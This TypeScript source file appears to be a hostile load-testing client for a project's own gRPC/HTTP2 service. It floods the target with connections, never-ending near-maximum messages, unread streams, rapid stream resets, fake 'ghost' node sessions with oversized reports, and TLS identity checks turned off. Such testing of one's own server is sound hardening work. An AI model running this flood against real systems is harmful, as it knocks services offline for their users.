// A client that means harm: many connections and calls, large messages that never end, answers that are never read.
//
//   node flood.js HOST:PORT MODE CONNECTIONS STREAMS SECONDS [CA CERT KEY]      CA alone: TLS without a certificate
import { readFileSync } from 'node:fs';
import { connect as connectHttp2, constants, type ClientHttp2Session } from 'node:http2';
import { connect, type Socket } from 'node:net';
import { connect as connectTls } from 'node:tls';

import { AgentMessage } from '../../proto/gen/weft/v1/session.js';
import { Status } from '../../proto/gen/weft/v1/types.js';

/** Just below what a message may have. */
const MESSAGE = 1024 * 1024 - 16;

type Mode = 'silent' | 'partial' | 'unread' | 'reset' | 'whole' | 'sessions';

const METHODS: Record<Mode, string> = {
  silent: '',
  // The one that needs no certificate.
  partial: 'IdentityService/RequestCertificate',
  whole: 'IdentityService/RequestCertificate',
  unread: 'NetworkService/WatchNetworks',
  reset: 'NetworkService/ListNetworks',
  sessions: 'SessionService/Connect',
};

interface Flood {
  host: string;
  port: number;
  mode: Mode;
  streams: number;
  tls?: { ca: Buffer; cert?: Buffer; key?: Buffer };
}

function dial({ host, port, tls }: Flood): Socket {
  if (tls === undefined) return connect({ host, port });
  return connectTls({ host, port, ...tls, ALPNProtocols: ['h2'], checkServerIdentity: () => undefined });
}

/** A message's head of gRPC: not compressed, and its length. */
function head(length: number): Buffer {
  const frame = Buffer.alloc(5);
  frame.writeUInt32BE(length, 1);
  return frame;
}

/** Field 1, the token: a text of almost the whole message. One buffer for all calls: this process must not be what is flooded. */
const END = Buffer.alloc(60, 0x78);
const BEGINNING = Buffer.concat([
  head(MESSAGE),
  Buffer.from([0x0a, 0xec, 0xff, 0x3f]),
  Buffer.alloc(MESSAGE - 4 - END.length, 0x78),
]);

const REPORT = Status.fromPartial({ problems: [{ what: 'x'.repeat(255 * 1024) }] });
let ghosts = 0;

function framed(message: NonNullable<AgentMessage['message']>): Buffer {
  const text = AgentMessage.encode({ message }).finish();
  return Buffer.concat([head(text.length), text]);
}

function call(session: ClientHttp2Session, { mode }: Flood): void {
  const stream = session.request({
    ':method': 'POST',
    ':path': `/weft.v1.${METHODS[mode]}`,
    'content-type': 'application/grpc',
    te: 'trailers',
  });
  stream.on('error', () => undefined);
  if (mode === 'sessions') {
    // Each of another node, with as large a report as is taken.
    stream.write(framed({ $case: 'hello', value: { node: `ghost${++ghosts}`, instance: 'i', version: '' } }));
    stream.write(framed({ $case: 'report', value: { sequence: 1, status: REPORT } }));
  } else if (mode === 'unread') {
    stream.pause();
    stream.end(head(0));
  } else if (mode === 'reset') {
    stream.end(head(0));
    setImmediate(() => stream.close(constants.NGHTTP2_CANCEL));
  } else {
    stream.write(BEGINNING);
    if (mode === 'whole') stream.end(END);
  }
}

/** One connection; another in its place when it is ended. */
function attack(flood: Flood, signal: AbortSignal): void {
  if (signal.aborted) return;
  const again = (): void => void setTimeout(() => attack(flood, signal), 100);
  const socket = dial(flood);
  socket.on('error', () => undefined);
  if (flood.mode === 'silent') return void socket.once('close', again);
  const session = connectHttp2(`http://${flood.host}:${flood.port}`, { createConnection: () => socket });
  session.on('error', () => undefined);
  session.once('close', again);
  session.once('connect', () => {
    for (let i = 0; i < flood.streams; i++) call(session, flood);
    if (flood.mode !== 'reset' && flood.mode !== 'whole') return;
    const more = setInterval(() => {
      if (session.destroyed) return clearInterval(more);
      for (let i = 0; i < flood.streams; i++) call(session, flood);
    }, 20);
  });
}

const [address = '', mode = '', connections = '', streams = '', seconds = '', ca, cert, key] =
  process.argv.slice(2);
const [, host = '', port = ''] = /^(.*):(\d+)$/.exec(address) ?? [];
const flood: Flood = {
  ...{ host, port: Number(port), mode: mode as Mode, streams: Number(streams) },
  ...(ca !== undefined && {
    tls: {
      ca: readFileSync(ca),
      ...(cert !== undefined && key !== undefined && { cert: readFileSync(cert), key: readFileSync(key) }),
    },
  }),
};
const ending = new AbortController();
for (let i = 0; i < Number(connections); i++) attack(flood, ending.signal);
setTimeout(() => process.exit(0), Number(seconds) * 1000);
